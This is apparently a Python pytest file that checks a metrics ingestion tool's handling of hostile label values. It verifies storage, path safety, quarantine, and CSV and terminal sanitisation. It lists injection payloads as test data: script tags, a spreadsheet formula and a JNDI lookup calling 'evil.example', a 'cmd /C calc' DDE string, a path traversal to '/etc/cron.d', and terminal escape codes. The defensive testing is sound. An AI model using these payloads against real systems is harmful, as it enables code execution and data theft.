"""Labels from the door to what is taken away: text everywhere, never a path, a formula or markup; what is no text is refused and kept."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import numpy as np
import pyarrow.parquet as pq
import pytest
from flask import Flask

from tests.app.commands import throttlescope
from tests.ingest.task_threads import TaskThreads
from throttlescope.app.server.api.routes import api_blueprint
from throttlescope.app.server.app import create_app
from throttlescope.app.services.promql.lake_queries import LakeQueries
from throttlescope.ingest.core.labels import LabelMapping, Labels
from throttlescope.ingest.core.selector import metric_selector
from throttlescope.ingest.core.series import DecodedSeries, batch_of
from throttlescope.ingest.core.times import BLOCK_MS
from throttlescope.ingest.lake import Lake
from throttlescope.ingest.pull.plan import PullItem
from throttlescope.ingest.pull.pull import PullResult, run_items, staging_of

START_MS = 1_795_140_000_000 // BLOCK_MS * BLOCK_MS
END_MS = START_MS + BLOCK_MS
METRIC, PATH_METRIC = "pulsar_rate_in", '../../../../../../tmp/evil\n"'
KEY = {"namespace": "t/n", "topic": "persistent://t/n/x", "subscription": "s"}
ODD = {
    "script": "</script><script>alert(1)</script>",
    "formula": '=HYPERLINK("http://evil.example","click")',
    "wide formula": "\uff1d1+1",
    "formula in the next line": "\n=1+1",
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "../../../../etc/cron.d/evil",
    "nul": "a\0b",
    "terminal": "\x1b[31mred\x07\x9b1m",
    "right to left": "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "lines": "a\u2028b\u0085c\r\nd",
    "template": "{{7*7}}${jndi:ldap://evil.example}",
    "huge": "x" * 100_000,
    "quotes": "a\"b'c`d\\e",
}
#: As names of labels, where Prometheus allows any text.
NAMES = ("=1+1", "../../up", "<img src=x>", "a b\n", "n" * 5_000, "\u00fc", "time_ms")
NO_TEXT = b"\xff\xfe".decode(errors="surrogateescape")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def valid_labels() -> list[Labels]:
    """Label sets that are odd and right."""
    found = [KEY | {"cluster": "c", "odd": value} for value in ODD.values()]
    found += [KEY | {"cluster": "c", name: value} for name, value in zip(NAMES, ODD.values(), strict=False)]
    found += [KEY | {"cluster": ODD["path"], "topic": value} for value in (ODD["formula"], ODD["script"])]
    return [tuple(sorted((labels | {"__name__": METRIC}).items())) for labels in found]


def invalid_labels() -> list[Labels]:
    """Label sets that cannot be placed."""
    found = [
        KEY | {"cluster": NO_TEXT},
        KEY | {"cluster": "c", "odd": NO_TEXT},
        KEY | {"cluster": "c", NO_TEXT: "x"},
        KEY | {"cluster": "c", "partition": "9" * 5_000},
        KEY | {"cluster": "c", "partition": "\u00b2"},
        {"cluster": "c", "namespace": "", "topic": "", "odd": ODD["script"]},
    ]
    return [tuple(sorted((labels | {"__name__": METRIC}).items())) for labels in found]


@dataclass
class HostileSource:
    """A source of series that no server has."""

    name = address = "made"
    stale_is_inferred = False

    def read(self, selector, start_ms, end_ms, meter) -> Iterator:
        times = START_MS + 15_000 * np.arange(20)
        every = [*valid_labels(), *invalid_labels()] if selector.metric_name == METRIC else [path_named()]
        yield batch_of(
            [DecodedSeries(labels, times, np.arange(20.0), np.empty(0, np.int64)) for labels in every]
        )


def path_named() -> Labels:
    return tuple(sorted((KEY | {"cluster": "c", "__name__": PATH_METRIC}).items()))


@pytest.fixture(scope="module")
def lake(tmp_path_factory) -> Lake:
    lake = Lake(tmp_path_factory.mktemp("hostile") / "lake")
    items = [
        PullItem("made", metric, (metric_selector(metric),), START_MS, END_MS)
        for metric in (METRIC, PATH_METRIC)
    ]
    result = PullResult("run", "made", START_MS, END_MS)
    with staging_of(lake, ["made"]) as staging:
        run_items(
            TaskThreads(), lake, {"made": HostileSource()}, LabelMapping(), staging, items, result, tasks=1
        )
    assert result.rows_quarantined == 20 * len(invalid_labels())
    return lake


def as_stored(labels: Labels) -> dict[str, str]:
    """As they are in the lake: Pulsar's own of a topic without partitions."""
    named = dict(labels)
    return named | ({"partition": "-1"} if named["__name__"] == METRIC else {})


def in_order(found: list[dict[str, str]]) -> list:
    return sorted(sorted(labels.items()) for labels in found)


def test_lake_stores_labels_unchanged(lake) -> None:
    rows = lake.read("series").to_pylist()
    found = [dict(row["labels"]) | {"__name__": row["metric_name"]} for row in rows]
    assert in_order(found) == in_order(
        [as_stored(labels) for labels in valid_labels()] + [as_stored(path_named())]
    )
    assert sum(len(row["timestamps_ms"]) for row in lake.read("samples").to_pylist()) == 20 * len(found)


def test_no_label_becomes_a_path(lake) -> None:
    names = [str(path.relative_to(lake.root)) for path in Path(lake.root).rglob("*")]
    assert names
    assert not [name for name in names if "evil" in name or ".." in name]


@pytest.mark.long
def test_invalid_series_are_quarantined_and_shown(lake) -> None:
    outcome = throttlescope("quarantine", "list", "--lake", lake.root, "--format", "json")
    assert outcome.code == 0, outcome.err
    rows = json.loads(outcome.out)
    assert sorted(row["reason"] for row in rows) == sorted(
        ["label_not_utf8"] * 3 + ["invalid_partition"] * 2 + ["missing_key_label"]
    )
    for form in ("json", "table"):
        for row in rows:
            shown = throttlescope("quarantine", "show", row["id"], "--lake", lake.root, "--format", form)
            assert shown.code == 0, shown.err
            assert "\x1b" not in shown.out


@pytest.fixture(scope="module")
def api(lake):
    app = Flask("hostile")
    app.register_blueprint(api_blueprint(LakeQueries(lake)))
    return app.test_client()


def test_api_returns_labels_unchanged(api) -> None:
    every = quote('{__name__=~".+"}')
    parameters = f"match[]={every}&start={START_MS // 1000}&end={END_MS // 1000}"
    found = json.loads(api.get(f"/api/v1/series?{parameters}").data)["data"]
    expected = [as_stored(labels) for labels in valid_labels()] + [as_stored(path_named())]
    assert in_order(found) == in_order(expected)
    assert set(json.loads(api.get("/api/v1/label/odd/values").data)["data"]) == set(ODD.values())
    query = f"/api/v1/query?query={METRIC}&time={START_MS // 1000 + 285}"
    answered = json.loads(api.get(query).data)["data"]["result"]
    assert in_order([one["metric"] for one in answered]) == in_order(
        [as_stored(one) for one in valid_labels()]
    )


def test_csv_has_no_formulas(lake) -> None:
    outcome = throttlescope("promql", METRIC, "--lake", lake.root, "--format", "csv")
    assert outcome.code == 0, outcome.err
    rows = list(csv.reader(io.StringIO(outcome.out, newline="")))
    assert len(rows) == len(valid_labels()) + 1
    assert {len(row) for row in rows} == {len(rows[0])}
    for row in rows:
        assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)]
    assert "'=1+1" in rows[0]
    column = rows[0].index("odd")
    # Who runs a command for a test reads its lines as lines.
    expected = {value.replace("\r\n", "\n") for value in ODD.values()}
    assert {row[column].removeprefix("'") for row in rows[1:]} == {*expected, ""}


@pytest.mark.long
def test_terminal_output_has_no_control_characters(lake) -> None:
    outcome = throttlescope("promql", METRIC, "--lake", lake.root)
    assert outcome.code == 0, outcome.err
    assert "alert(1)" in outcome.out
    assert not {"\x1b", "\x07", "\x9b", "\0", "\u202e"} & set(outcome.out)


@pytest.mark.long
def test_exports_contain_all_labels(lake) -> None:
    client = create_app(lake.root).server.test_client()
    rows = pq.read_table(io.BytesIO(client.get("/export/table/series.parquet").data)).to_pylist()
    assert in_order([dict(row["labels"]) for row in rows]) == in_order(
        [dict(row["labels"]) for row in lake.read("series").to_pylist()]
    )
    text = client.get("/export/table/series.csv").text
    cells = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(cells) == len(rows)
    assert not [cell for row in cells for cell in row.values() if cell.startswith(FORMULA_STARTS)]
    assert client.get("/export/table/quarantine.csv").status_code == 200
